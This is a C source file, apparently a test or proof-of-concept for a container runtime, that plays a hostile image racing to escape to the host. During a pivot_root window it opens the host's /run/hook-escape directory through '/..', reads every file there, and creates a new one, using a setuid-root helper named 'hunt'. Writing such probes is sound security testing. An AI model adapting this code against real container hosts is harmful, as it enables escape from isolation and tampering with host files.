/* What a hostile image runs before its container has started: it looks for a way out to the host's tree.
 *
 * pivot_root(".", ".") stacks the old root over the container's, until the runtime unmounts it. Meanwhile "/.." leads
 * to the host for every process that has the container's root already, whatever its rights; and what it opened there
 * stays open.
 *
 * By the name under which it runs:
 *
 *   first   the container's first process: tells that it runs, and sleeps
 *   sh      the shell of the container's user: looks with that user's rights, or for "sh -c hunt" runs /bin/hunt
 *   hunt    looks with the rights of its owner: it is root's, and setuid
 *
 * Each line of the output is something that was found, but for the last, which says that the session came to its end.
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define STARTED "/tmp/started"
#define HOST "/../run/hook-escape"
#define PATIENCE 60.0 /* seconds until the container has to run */
#define LONGER 0.03   /* seconds that are looked on after that */

static double now(void)
{
    struct timespec time;

    clock_gettime(CLOCK_MONOTONIC, &time);
    return time.tv_sec + time.tv_nsec / 1e9;
}

static void take(int host)
{
    char text[100];
    struct dirent *entry;
    DIR *directory = fdopendir(host);

    printf("opened the host's %s\n", HOST + 3);
    while (directory && (entry = readdir(directory))) {
        int file = openat(host, entry->d_name, O_RDONLY | O_NOFOLLOW);
        ssize_t size = file < 0 ? -1 : read(file, text, sizeof text);

        if (size > 0)
            printf("read %s: %.*s\n", entry->d_name, (int)size, text);
    }
    snprintf(text, sizeof text, "written-%ld-as-%d", (long)(now() * 1e6), geteuid());
    if (openat(host, text, O_WRONLY | O_CREAT | O_EXCL, 0600) >= 0)
        printf("wrote %s\n", text);
}

static int hunt(void)
{
    double give_up = now() + PATIENCE;
    int is_found = 0;

    for (unsigned looks = 0; now() < give_up; looks++) {
        int host = is_found ? -1 : open(HOST, O_RDONLY | O_DIRECTORY);

        if (host >= 0) {
            is_found = 1;
            take(host);
        }
        if (looks % 64 == 0 && access(STARTED, F_OK) == 0 && give_up > now() + LONGER)
            give_up = now() + LONGER;
    }
    puts(access(STARTED, F_OK) == 0 ? "ended" : "the container never ran");
    return 0;
}

int main(int count, char **arguments)
{
    const char *slash = strrchr(arguments[0], '/');
    const char *name = slash ? slash + 1 : arguments[0];

    if (strcmp(name, "first") == 0) {
        close(open(STARTED, O_WRONLY | O_CREAT, 0600));
        for (;;)
            pause();
    }
    if (strcmp(name, "hunt") != 0 && count == 3 && strcmp(arguments[2], "hunt") == 0)
        execl("/bin/hunt", "hunt", (char *)0);
    return hunt();
}
